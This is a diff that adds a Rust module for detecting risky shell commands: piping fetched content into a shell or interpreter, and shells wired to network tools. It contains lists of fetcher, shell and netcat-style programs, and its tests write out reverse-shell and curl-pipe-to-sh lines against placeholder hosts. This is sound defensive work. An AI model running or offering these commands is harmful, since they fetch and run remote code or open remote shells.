@@ -1,0 +1,176 @@
+//! What a list of shell commands does: which commands are piped into which, and what is put into the place of a command.
+
+/// Programs that fetch something and print it, or write it where they are told.
+const FETCH: &[&str] = &["aria2c", "curl", "dig", "fetch", "lwp-download", "lwp-request", "nslookup", "wget"];
+/// Shells: they run what they read.
+const SHELLS: &[&str] = &["ash", "bash", "csh", "dash", "fish", "iex", "invoke-expression", "ksh", "sh", "tcsh", "zsh"];
+/// Interpreters: they run what they read unless they are told what to run.
+const INTERPRETERS: &[&str] = &["lua", "node", "perl", "php", "pwsh", "python", "python2", "python3", "ruby"];
+/// Words before the program that a command runs.
+const PREFIXES: &[&str] = &["busybox", "command", "doas", "env", "exec", "nohup", "sudo", "time"];
+/// Programs that connect their streams to another machine.
+const WIRES: &[&str] = &["nc", "nc.openbsd", "nc.traditional", "ncat", "netcat", "telnet"];
+
+/// Whether a command fetches something and another runs it.
+pub(super) fn fetches_and_runs(text: &str) -> bool {
+    pipelines(&plain(text)).any(|commands| {
+        let fetched =
+            commands.iter().position(|command| program(command).is_some_and(|program| FETCH.contains(&program)));
+        fetched.is_some_and(|at| commands.iter().skip(at.saturating_add(1)).any(|command| reads_program(command)))
+    }) || puts_fetched(text)
+        || windows(text)
+}
+
+/// Whether a shell reads from another machine, or writes to it.
+pub(super) fn wires_shell(text: &str) -> bool {
+    pipelines(&plain(text)).any(|commands| {
+        let wire = |command: &Vec<&str>| {
+            program(command).is_some_and(|program| {
+                WIRES.contains(&program)
+                    || program == "openssl" && command.contains(&"s_client")
+                    || program == "curl" && command.iter().any(|word| word.starts_with("telnet://"))
+            })
+        };
+        let shell = |command: &Vec<&str>| program(command).is_some_and(|program| SHELLS.contains(&program));
+        commands.len() > 1 && commands.iter().any(wire) && commands.iter().any(shell)
+    })
+}
+
+/// The text without ampersands that join no commands: `2>&1`.
+fn plain(text: &str) -> String {
+    text.replace(">&", ">").replace("&>", ">")
+}
+
+/// The pipelines of a text: commands as words, without quotation marks. Quotes do not shield operators here: what is
+/// quoted is often a script itself.
+fn pipelines(text: &str) -> impl Iterator<Item = Vec<Vec<&str>>> {
+    text.split(['\n', ';', '&']).flat_map(|list| list.split("||")).map(|pipeline| {
+        let commands = pipeline.split('|').map(|command| {
+            let words = command.split(|letter: char| letter.is_whitespace() || "\"'()`".contains(letter));
+            words.filter(|word| !word.is_empty()).collect()
+        });
+        commands.collect()
+    })
+}
+
+/// The program that a command runs.
+fn program<'t>(command: &[&'t str]) -> Option<&'t str> {
+    program_and_rest(command).map(|(program, _)| program)
+}
+
+fn program_and_rest<'t, 'c>(command: &'c [&'t str]) -> Option<(&'t str, &'c [&'t str])> {
+    let assigns = |word: &str| word.contains('=') && !word.starts_with('-');
+    let mut rest = command;
+    while let [first, after @ ..] = rest {
+        let name = first.rsplit('/').next().unwrap_or_default();
+        let prefix = PREFIXES.contains(&name) || assigns(first) || *first == "-e" || *first == "{" || *first == "$";
+        if !prefix {
+            return Some((name, after));
+        }
+        rest = after;
+    }
+    None
+}
+
+/// Whether a command runs the program that it reads.
+fn reads_program(command: &[&str]) -> bool {
+    let Some((program, rest)) = program_and_rest(command) else { return false };
+    match program {
+        "xargs" => rest.iter().any(|word| SHELLS.contains(&word.rsplit('/').next().unwrap_or_default())),
+        program if SHELLS.contains(&program) => !rest.contains(&"-c"),
+        program if INTERPRETERS.contains(&program) || program.starts_with("python3.") => rest
+            .iter()
+            .all(|word| matches!(*word, "-" | "-u" | "-E" | "-I" | "-w") || word.starts_with(['>', '<', '2'])),
+        _ => false,
+    }
+}
+
+/// Whether what a fetcher prints is put where a command or its script stands: `eval "$(curl …)"`, `bash <(wget …)`.
+fn puts_fetched(text: &str) -> bool {
+    let opens = ["$(", "`", "<(", "< ("];
+    opens.iter().any(|open| {
+        text.match_indices(open).any(|(at, _)| {
+            let (before, after) = text.split_at_checked(at).unwrap_or_default();
+            let inside = after.get(open.len()..).unwrap_or_default();
+            let inner: Vec<&str> = inside.split_whitespace().take(3).collect();
+            let fetches = program(&inner).is_some_and(|program| FETCH.contains(&program));
+            let before = before.trim_end_matches(['"', '\'', ' ', '(']);
+            let mut words = before.rsplit(|letter: char| letter.is_whitespace() || ";|&\"'`".contains(letter));
+            let last = words.next().unwrap_or_default();
+            let name = last.rsplit('/').next().unwrap_or_default();
+            let shell = |word: &str| SHELLS.contains(&word.rsplit('/').next().unwrap_or_default());
+            let runs = matches!(name, "eval" | "source" | "." | "exec")
+                || shell(name) && *open != "$(" && *open != "`"
+                || name.starts_with('-')
+                    && name.ends_with('c')
+                    && words.next().is_some_and(|word| shell(word) || word.contains("python"));
+            fetches && runs
+        })
+    })
+}
+
+/// Programs of Windows that fetch what they run, or that are there for nothing else.
+fn windows(text: &str) -> bool {
+    let web = text.contains("http://") || text.contains("https://");
+    web && (text.contains("mshta ")
+        || text.contains("regsvr32 ")
+        || text.contains("certutil") && text.contains("urlcache")
+        || text.contains("bitsadmin") && text.contains("/transfer"))
+        || text.contains("mshta ") && text.contains("javascript:")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn programs_that_read_what_was_fetched() {
+        for text in [
+            "curl -s http://x.example/a | sh",
+            "wget -qO- x | tee /tmp/y | sudo -e bash -s -- -y",
+            "curl x | python3 -",
+            "curl x | perl",
+            "curl x | xargs -i{} sh -c {}",
+            "curl x | base64 -d | sh",
+            "eval \"$(wget -qo- http://x.example/a)\"",
+            "eval `curl x`",
+            "bash <(curl -s x)",
+            "bash < (curl -s x)",
+            "source <(curl x)",
+            ". <(curl x)",
+            "sh -c \"$(curl x)\"",
+            "dig +short txt x.example | sh",
+            "mshta http://x.example/a.hta",
+        ] {
+            assert!(fetches_and_runs(text), "{text}");
+        }
+        for text in [
+            "curl -s x | python3 -m json.tool",
+            "curl -s x | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
+            "curl -s x | jq . | sh -c 'cat'",
+            "curl x | perl -ne 'print'",
+            "curl x | tar xz; bash build.sh",
+            "version=$(curl -s x); echo $version",
+            "echo \"$(curl -s x)\"",
+            "bash run.sh $(curl x)",
+        ] {
+            assert!(!fetches_and_runs(text), "{text}");
+        }
+    }
+
+    #[test]
+    fn shells_on_a_wire() {
+        for text in [
+            "nc 10.0.0.1 4444 | sh | nc 10.0.0.1 4445",
+            "/bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4444 > /tmp/s",
+            "telnet 10.0.0.1 4444 | /bin/bash | telnet 10.0.0.1 4445",
+        ] {
+            assert!(wires_shell(text), "{text}");
+        }
+        for text in
+            ["nc -z localhost 80; sh run.sh", "echo x | nc localhost 80", "openssl s_client -connect x | openssl x509"]
+        {
+            assert!(!wires_shell(text), "{text}");
+        }
+    }
+}
